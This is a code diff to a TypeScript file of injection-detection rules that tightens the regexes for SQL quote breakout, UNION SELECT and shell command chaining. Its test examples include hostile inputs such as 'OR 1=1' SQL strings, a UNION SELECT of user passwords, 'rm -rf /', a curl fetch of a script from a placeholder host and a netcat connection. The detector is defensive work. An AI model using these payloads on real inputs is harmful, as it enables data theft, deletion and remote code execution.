@@ -31,7 +31,7 @@ export const argumentRules: readonly ArgumentRule[] = [
     check: 'sql',
     description: 'breaks out of a quoted SQL value with an always-true condition',
     score: 0.9,
-    pattern: /['"]\s*\)?\s*(?:or|\|\|)\s+(?:\(\s*)?(?:['"]?\w*['"]?\s*=\s*['"]?\w*|\d+\s*[=<>]|true\b|not\s+false\b)/i,
+    pattern: /['"]\s*(?:\)\s*)?(?:or|\|\|)\s+(?:\(\s*)?(?:['"]?\w*['"]?\s*=\s*['"]?\w*|\d+\s*[=<>]|true\b|not\s+false\b)/i,
     scope: 'plain',
     examples: {
       positive: ["' OR '1'='1", "admin' or 1=1 --", '" OR ""="', "x') OR ('a'='a"],
@@ -55,7 +55,7 @@ export const argumentRules: readonly ArgumentRule[] = [
     check: 'sql',
     description: 'appends a UNION SELECT to read other tables',
     score: 0.85,
-    pattern: /\bunion\b(?:\s+|\/\*.*?\*\/)+(?:all\s+|distinct\s+)?select\s+(?:null\b|\*|\d|@@|[\w.()]+\s*(?:,|\bfrom\b|--|#))/i,
+    pattern: /\bunion\b(?:\s|\/\*.*?\*\/)+(?:all\s+|distinct\s+)?select\s+(?:null\b|\*|\d|@@|[\w.()]+\s*(?:,|\bfrom\b|--|#))/i,
     scope: 'plain',
     examples: {
       positive: ["1 UNION SELECT username, password FROM users", "x' union all select null,null--"],
@@ -88,7 +88,7 @@ export const argumentRules: readonly ArgumentRule[] = [
     check: 'shell',
     description: 'chains a shell command onto a plain value (;, &&, ||, |, newline)',
     score: 0.85,
-    pattern: new RegExp(String.raw`(?:;|&&|\|\||\||\n)\s*(?:sudo\s+)?(?:${shellCommands})\b(?:\s|$)`),
+    pattern: new RegExp(String.raw`(?:;|&&|\|\||\||\n)[^\S\n]*(?:sudo\s+)?(?:${shellCommands})\b(?:\s|$)`),
     scope: 'plain',
     examples: {
       positive: ['report.txt; rm -rf /', 'main && curl http://x.example/p.sh', 'foo | nc 10.0.0.1 4444', 'name\nwhoami'],
